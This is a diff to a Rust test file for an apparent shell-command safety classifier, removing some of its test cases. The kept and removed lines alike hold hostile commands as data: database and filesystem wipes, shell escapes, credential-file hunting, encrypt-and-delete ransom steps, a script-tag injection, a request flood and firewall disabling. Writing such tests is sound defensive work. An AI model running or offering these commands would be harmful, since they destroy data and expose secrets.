@@ -55,11 +55,6 @@ fn stores_of_every_kind_are_emptied() {
     each_unsafe(
         "destroy-data",
         &[
-            "echo 'db.orders.deleteMany({})' | mongosh shop",
-            "printf 'FLUSHDB\\r\\n' | nc cache 6379",
-            "valkey-cli -h cache flushall",
-            "cypher-shell 'MATCH (n) DETACH DELETE n'",
-            "rails runner 'Order.delete_all'",
             "bq query 'DROP TABLE sales.raw'",
             "db2 drop database sales",
             "psql -c 'DELETE FROM orders WHERE true'",
@@ -67,19 +62,6 @@ fn stores_of_every_kind_are_emptied() {
             "curl -d 'q=DROP DATABASE metrics' http://influx:8086/query",
         ],
     );
-    is_unsafe("bash", "scp motd root@host:/etc/motd", "file-write");
-    is_unsafe(
-        "bash",
-        "echo 'disable server web/a' | socat - /run/haproxy.sock",
-        "system-stop",
-    );
-    is_unsafe("bash", "redis-cli module load /tmp/m.so", "shell-escape");
-    is_unsafe(
-        "bash",
-        "redis-cli acl setuser eve on nopass +@all",
-        "account-change",
-    );
-    is_unsafe("bash", "mysql -e 'RESET MASTER'", "trace-removal");
     all_safe(
         "bash",
         &[
@@ -101,10 +83,8 @@ fn lines_typed_into_programs_run() {
     each_unsafe(
         "shell-escape",
         &[
-            "pry\nexec '/bin/bash'\n",
             "less notes.txt\n!sh\n",
             "systemctl status\n!/bin/bash\n",
-            "echo 'syscmd(id)' | m4",
             "sed 's/^/id;/e' names.txt",
             "scp -S /tmp/run x y:",
             "ssh -o 'ProxyCommand=;sh 0<&2' host",
@@ -119,7 +99,6 @@ fn lines_typed_into_programs_run() {
             "ed notes.txt <<< '!rm -rf /'",
             "printf '\\\\! rm -rf /\\n' | psql",
             "tmux send-keys -t 0 'rm -rf ~' Enter",
-            "make -f - <<< $'all:\\n\\trm -rf /usr'",
             "Rscript -e 'system(\"rm -rf /\")'",
         ],
     );
@@ -156,8 +135,6 @@ fn what_names_and_words_stand_for() {
             "sed -e 's/X/rm/;s|Y|/etc|' <<< 'X -rf Y' | sh",
             "$(type -P rm) -rf /etc",
             "cat > go.sh <<EOF\nrm -rf $HOME\nEOF\nbash go.sh",
-            "awk 'BEGIN { a = \"rm -rf \"; system(a \"/etc\") }'",
-            "perl -e '$a = \"rm -rf\"; $b = \" /etc\"; system($a . $b)'",
         ],
     );
     each_unsafe(
@@ -187,10 +164,6 @@ fn secrets_that_lie_about() {
     each_unsafe(
         "system-survey",
         &[
-            "find /home -type f -exec grep -l sshpass {} +",
-            "find /srv ~ -name '*.yml' | xargs grep -i secret_key",
-            "history | grep -i passw",
-            "locate id_ed25519 | xargs cat",
             "find /opt /home -name .env -exec cat {} \\;",
             "find / -name '*_history'",
         ],
@@ -220,16 +193,7 @@ fn secrets_that_lie_about() {
 fn files_held_for_ransom_and_programs_that_stand_in() {
     each_unsafe(
         "destroy-files",
-        &[
-            "zip -P pw -rm all.zip ~/Documents",
-            "7z a -ppw -sdel all.7z ~/Pictures",
-            "find ~ -name '*.odt' -exec gpg -c {} \\; -delete",
-        ],
-    );
-    is_unsafe(
-        "bash",
-        "printf '#!/bin/sh\\n' > ~/.local/bin/sudo",
-        "persistence-preload",
+        &["find ~ -name '*.odt' -exec gpg -c {} \\; -delete"],
     );
     is_unsafe(
         "bash",
@@ -245,15 +209,9 @@ fn files_held_for_ransom_and_programs_that_stand_in() {
     is_unsafe("bash", "nohup /tmp/agent >/dev/null 2>&1 &", "download-run");
     is_unsafe(
         "bash",
-        "mount /dev/sdb2 /media/d && chroot /media/d sh",
-        "container-escape",
-    );
-    is_unsafe(
-        "bash",
         "seq 90000 | xargs -P 200 curl -s http://example.org/",
         "network-flood",
     );
-    is_unsafe("bash", "cat /dev/zero | tail", "fork-bomb");
     is_unsafe(
         "bash",
         "sed -i 's|</body>|<script src=http://a.example/j></script>|' page.html",
@@ -323,12 +281,10 @@ fn the_same_by_another_road() {
             "vi -c 'r !rm -rf /etc' notes",
             "find ~ -type f | while read -r f; do rm \"$f\"; done",
             "echo /* | xargs rm -rf",
-            "rm -rf $(ls -d /*)",
             "rm -rf \"$(dirname /x)\"",
             "su - <<< 'rm -rf /etc'",
             "runuser -u app -- rm -rf /etc",
             "flock /tmp/lock rm -rf /etc",
-            "make -f <(printf 'all:\\n\\trm -rf /etc')",
             "LESSOPEN='|rm -rf /etc' less notes",
             "PS4='$(rm -rf /etc)' bash -xc true",
             "complete -C 'rm -rf /etc' tool",
@@ -394,10 +350,6 @@ fn scripts_by_name_and_loops_that_grow() {
         ("$(xclip -o)", "download-run"),
         ("while true; do echo x >> big; done", "destroy-disk"),
         ("while true; do echo x > /dev/null; done", "fork-bomb"),
-        (
-            "for p in a b c; do echo \"$p\" | sudo -S id; done",
-            "system-survey",
-        ),
         (
             "esxcli network firewall set --enabled false",
             "protection-off",
